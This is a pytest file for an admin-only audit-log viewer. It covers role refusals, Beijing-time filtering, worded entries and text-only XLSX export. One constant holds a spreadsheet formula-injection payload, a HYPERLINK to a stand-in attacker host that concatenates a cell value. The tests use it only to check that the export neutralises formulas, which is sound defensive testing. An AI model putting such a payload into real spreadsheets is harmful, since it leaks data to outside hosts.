"""The admin's audit-log viewer (issue 18): filters, Beijing time, entries in words, export of
text cells only (the export itself logged), and every other role refused."""
from __future__ import annotations

import io
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from streamlit.testing.v1 import AppTest

from tests.fixtures_app import demo_user

PAGE = str(Path(__file__).resolve().parent.parent / "pages" / "audit.py")
PAYLOAD = '=HYPERLINK("http://evil.example/?d="&C4,"点击查看")'


def _write(actor: str, action: str, entity: str, at: datetime | None = None) -> None:
    from services.db import session_scope
    from store import audit
    from store.models import AuditEntry

    with session_scope() as s:
        if at is None:
            audit.record(s, actor, action, entity, "42", after={"名称": PAYLOAD})
        else:   # the log is insert-only: a row placed in time is inserted with its time
            s.add(AuditEntry(at=at, actor=actor, action=action, entity=entity, entity_id="42",
                             before=None, after={"名称": PAYLOAD}))


@pytest.mark.parametrize("role", ["leader", "planner", "college", "cadre"])
def test_only_the_admin_reads_or_exports_the_log(demo_db, role):
    from services import audit_view
    from services.access import AccessDenied

    with pytest.raises(AccessDenied):
        audit_view.entries(demo_user(role), audit_view.AuditFilter())
    with pytest.raises(AccessDenied):
        audit_view.export_xlsx(demo_user(role), audit_view.AuditFilter())
    admin = demo_user("admin")
    denied = audit_view.entries(admin, audit_view.AuditFilter(action="access_denied", actor=role))
    assert len(denied) == 2          # each refusal is itself a security event in the log


def test_entries_in_words_and_beijing_time(demo_db):
    from services import audit_view

    # 2026-03-01 17:30 UTC is 2026-03-02 01:30 in Beijing: the day filter must use Beijing days
    _write("zhang", "publish", "round", datetime(2026, 3, 1, 17, 30, tzinfo=UTC))
    admin = demo_user("admin")
    day = audit_view.entries(admin, audit_view.AuditFilter(since=date(2026, 3, 2), until=date(2026, 3, 2)))
    assert list(day["时间（北京）"]) == ["2026-03-02 01:30:00"]
    assert list(day["操作"]) == ["发布 分配轮次 42"] and list(day["操作人"]) == ["zhang"]
    assert "{" not in day["修改后"].iloc[0] and PAYLOAD in day["修改后"].iloc[0]
    before = audit_view.entries(admin, audit_view.AuditFilter(until=date(2026, 3, 1), actor="zhang"))
    assert before.empty
    en = audit_view.entries(admin, audit_view.AuditFilter(actor="zhang"), lang="en")
    assert list(en["What"]) == ["published round 42"]


def test_export_is_text_only_and_logged(demo_db):
    from services import audit_view

    _write(PAYLOAD, "update", "user")
    admin = demo_user("admin")
    raw = audit_view.export_xlsx(admin, audit_view.AuditFilter(action="update"))
    ws = load_workbook(io.BytesIO(raw)).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert any(c.value == PAYLOAD for c in cells)
    assert all(c.data_type != "f" for c in cells)
    logged = audit_view.entries(admin, audit_view.AuditFilter(action="export", entity="audit_log"))
    assert len(logged) == 1 and logged["操作人"].iloc[0] == "admin"


def test_page_shows_the_log_to_the_admin(demo_db, as_role):
    _write("zhang", "publish", "round")
    at = as_role(AppTest.from_file(PAGE, default_timeout=60), "admin").run()
    assert not at.exception
    table = at.dataframe[0].value
    assert "发布 分配轮次 42" in set(table["操作"])
    at.selectbox(key="audit_actor").select("zhang").run()
    assert set(at.dataframe[0].value["操作人"]) == {"zhang"}
